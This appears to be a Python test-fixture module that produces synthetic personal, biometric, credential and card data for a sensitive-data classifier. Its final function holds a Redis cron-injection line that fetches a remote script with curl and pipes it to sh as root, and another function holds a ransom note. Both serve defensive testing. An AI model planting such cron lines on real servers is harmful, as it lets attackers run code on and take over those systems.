"""Synthetic records for classifier tests, and for the scan core's real-server tests.

Deterministic (seeded ``random``), dependency-free, and valid where it matters (check
digits, date ranges), so a test can load them into MongoDB, Redis, Elasticsearch or SQL
and expect the classifier to name the same categories and patterns. Every function
returns plain dicts the way a JSON document store would hold them.
"""

from __future__ import annotations

import base64
import datetime as dt
import math
import random
import string
from typing import Any

from unguarded.classify.validators import iso7064_mod11_2, luhn_ok

GIVEN = ["Mary", "John", "Linda", "James", "Wei", "Fatima", "Lucas", "Sofia", "Hans", "Chloé"]
FAMILY = ["Smith", "Garcia", "Müller", "Wang", "Kowalski", "Rossi", "Dubois", "Tanaka", "Silva", "Kim"]
HAN_NAMES = ["张伟", "王芳", "李娜", "刘洋", "陈静", "杨帆", "赵磊", "黄敏"]


def cn_ric(rng: random.Random) -> str:
    """A China resident ID with a real birth date and a valid MOD 11-2 check digit."""
    born = dt.date(1950, 1, 1) + dt.timedelta(days=rng.randrange(20000))
    body = f"110105{born:%Y%m%d}{rng.randrange(1000):03d}"
    return body + iso7064_mod11_2(body)


def us_ssn(rng: random.Random) -> str:
    return f"{rng.randint(1, 665):03d}-{rng.randint(1, 99):02d}-{rng.randint(1, 9999):04d}"


def visa(rng: random.Random) -> str:
    """A Luhn-valid 16-digit Visa number that is not a published test number."""
    while True:
        body = "4" + "".join(rng.choice(string.digits) for _ in range(14))
        for check in string.digits:
            if luhn_ok(body + check):
                number = body + check
                if number != "4111111111111111":
                    return number


def people(n: int = 60, seed: int = 1) -> list[dict[str, Any]]:
    """Identity records: names, national IDs, e-mail, phone, birth date, nested address."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        first, last = rng.choice(GIVEN), rng.choice(FAMILY)
        out.append(
            {
                "_id": f"{i:024x}",
                "first_name": first,
                "last_name": last,
                "email": f"{first.lower()}.{last.lower()}{i}@example.org".encode("ascii", "ignore").decode(),
                "phone": f"+1 415 {rng.randint(200, 999)} {rng.randint(1000, 9999)}",
                "birth_date": (dt.date(1950, 1, 1) + dt.timedelta(days=rng.randrange(20000))).isoformat(),
                "ssn": us_ssn(rng),
                "身份证号": cn_ric(rng),
                "address": {
                    "street": f"{rng.randint(1, 999)} Market Street",
                    "city": "San Francisco",
                    "zip": f"94{rng.randint(100, 999)}",
                },
                "tags": ["customer", rng.choice(["gold", "silver"])],
            }
        )
    return out


def location_trail(devices: int = 5, points: int = 12, seed: int = 2) -> list[dict[str, Any]]:
    """GPS fixes of a few devices over time: the same device id at moving positions."""
    rng = random.Random(seed)
    start = dt.datetime(2024, 5, 1, 8, 0, tzinfo=dt.UTC)
    out = []
    for d in range(devices):
        lat, lon = 39.9 + rng.random() / 10, 116.3 + rng.random() / 10
        for p in range(points):
            lat += rng.uniform(-0.002, 0.002)
            lon += rng.uniform(-0.002, 0.002)
            out.append(
                {
                    "device_id": f"dev-{d:04d}",
                    "ts": (start + dt.timedelta(minutes=5 * p)).isoformat(),
                    "location": {"type": "Point", "coordinates": [round(lon, 6), round(lat, 6)]},
                }
            )
    return out


def weather_station(stations: int = 3, readings: int = 20, seed: int = 3) -> list[dict[str, Any]]:
    """Sensor readings: station ids repeat, but each always at the same fixed position."""
    rng = random.Random(seed)
    sites = [(round(52.5 + rng.random(), 6), round(13.4 + rng.random(), 6)) for _ in range(stations)]
    start = dt.datetime(2024, 5, 1, tzinfo=dt.UTC)
    return [
        {
            "station_id": f"ST{s}",
            "recorded_at": (start + dt.timedelta(hours=r)).isoformat(),
            "lat": sites[s][0],
            "lon": sites[s][1],
            "temperature": round(rng.uniform(-5, 30), 1),
        }
        for r in range(readings)
        for s in range(stations)
    ]


def face_embedding(rng: random.Random, size: int = 128) -> list[float]:
    v = [rng.gauss(0, 1) for _ in range(size)]
    norm = math.sqrt(sum(x * x for x in v))
    return [x / norm for x in v]


def biometric_store(n: int = 20, seed: int = 4) -> list[dict[str, Any]]:
    """Face templates and photos (JPEG bytes as base64 in a JSON-friendly form)."""
    rng = random.Random(seed)
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(rng.randrange(256) for _ in range(300))
    return [
        {"person_id": i, "embedding": face_embedding(rng, 512), "photo": base64.b64encode(jpeg).decode()}
        for i in range(n)
    ]


def credential_store(n: int = 20, seed: int = 5) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    alphabet = string.ascii_letters + string.digits + "./"
    return [
        {
            "username": f"user{i}",
            "password": "$2b$12$" + "".join(rng.choice(alphabet) for _ in range(53)),
            "api_token": "ghp_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36)),
        }
        for i in range(n)
    ]


def checkins(n: int = 40, seed: int = 6) -> list[dict[str, Any]]:
    """Check-ins where a few visits are to places of worship (Art. 9: religion)."""
    rng = random.Random(seed)
    kinds = ["cafe"] * 10 + ["restaurant"] * 10 + ["gym"] * 5 + ["mosque"]
    return [{"user_id": rng.randint(1, 5), "place_type": rng.choice(kinds), "venue": f"V{i}"} for i in range(n)] + [
        {"user_id": 1, "place_type": "church", "venue": "V-last"}
    ]


def patients(n: int = 30, seed: int = 7) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    return [
        {
            "name": rng.choice(HAN_NAMES),
            "minzu": rng.choice(["汉族", "汉族", "回族", "维吾尔族", "藏族"]),
            "diagnosis": rng.choice(["E11.9", "I10", "J45.909", "F32.9"]),
            "payment": {"card": visa(rng)},
        }
        for _ in range(n)
    ]


def ransom_note() -> dict[str, Any]:
    """The note MongoDB ransom bots leave (wording of the common 2020s campaigns)."""
    return {
        "content": "All your data is backed up. You must pay 0.0059 BTC to "
        "1KXrWXciRDZUpQwQmuM1DbwsKDLYAieHeg In 48 hours, your data will be publicly disclosed "
        "and deleted. To recover your lost data contact recover@onionmail.org",
    }


def redis_cron_values() -> dict[str, str]:
    """The four keys the Redis cron-injection bots write (values abridged)."""
    line = "\n\n*/1 * * * * root curl -fsSL http://203.0.113.7/b.sh | sh\n\n"
    return {f"backup{i}": line for i in range(1, 5)}
